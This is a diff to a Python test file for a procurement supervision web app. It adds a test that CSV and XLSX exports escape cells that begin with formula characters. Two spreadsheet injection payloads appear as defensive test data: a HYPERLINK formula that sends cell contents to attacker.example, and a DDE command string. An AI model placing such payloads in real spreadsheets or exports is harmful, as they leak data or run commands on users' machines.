@@ -4,6 +4,7 @@ the management office sees the dashboard and the assessment only."""
 from __future__ import annotations
 
 import base64
+import csv
 import datetime as dt
 import io
 from typing import Any
@@ -14,7 +15,7 @@ from app.core import audit
 from app.core.db import db
 from app.supervision import alerts, assessment, witness
 from tests.factories import csrf_token, login
-from tests.supervision.conftest import T0, Scene, bidder, envelope
+from tests.supervision.conftest import T0, Scene, bidder, envelope, opening_record
 
 
 def test_dashboard_shows_todays_openings_and_active_sections(scene: Scene, client: Any) -> None:
@@ -43,6 +44,7 @@ def test_alerts_desk_and_decision_through_the_page(scene: Scene, client: Any) ->
     a, b = bidder(), bidder()
     envelope(section, a, client_fingerprint="same-machine")
     envelope(section, b, client_fingerprint="same-machine")
+    opening_record(section, scene.staff, [(a, {"price": "9000000.00"}), (b, {"price": "9100000.00"})])
     (alert,) = alerts.run_alert_rules(section)
     db.session.commit()
     login(client, scene.regulator)
@@ -84,6 +86,33 @@ def test_assessment_counts_charts_and_exports(scene: Scene, client: Any) -> None
     wb = load_workbook(io.BytesIO(resp.data))
     assert wb.sheetnames == ["staff", "departments"]
     assert wb["staff"]["A1"].value == "name"
+
+
+def test_exports_never_turn_a_name_into_a_formula(scene: Scene, client: Any) -> None:
+    """A display name such as ``=HYPERLINK(...)`` stays text in the CSV and the XLSX export (issue 14):
+    cells that begin with =, +, -, @, a tab or a carriage return are escaped."""
+    from openpyxl import load_workbook
+
+    from app.core.spreadsheets import FORMULA_LEADS, safe_cell
+
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"点击")'
+    scene.staff.display_name = evil
+    scene.staff.organization.name = "+cmd|' /C calc'!A0"
+    db.session.commit()
+    login(client, scene.manager)
+    query = "?start=2026-01-01&end=2026-03-02"
+    csv_text = client.get(f"/supervision/assessment.csv{query}").get_data(as_text=True)
+    cells_csv = [c for row in csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))) for c in row]
+    assert "'" + evil in cells_csv and "'+cmd|' /C calc'!A0" in cells_csv
+    assert not any(c.startswith(FORMULA_LEADS) for c in cells_csv)
+    wb = load_workbook(io.BytesIO(client.get(f"/supervision/assessment.xlsx{query}").data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)  # no formula anywhere
+    named = [c for c in cells if c.value == evil]
+    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)
+    for lead in FORMULA_LEADS:
+        assert safe_cell(lead + "1+1") == "'" + lead + "1+1"
+    assert safe_cell(-3) == -3 and safe_cell("a=b") == "a=b" and safe_cell(None) == ""
 
 
 def test_regulator_registers_a_witness_key_and_cosigns_offline(
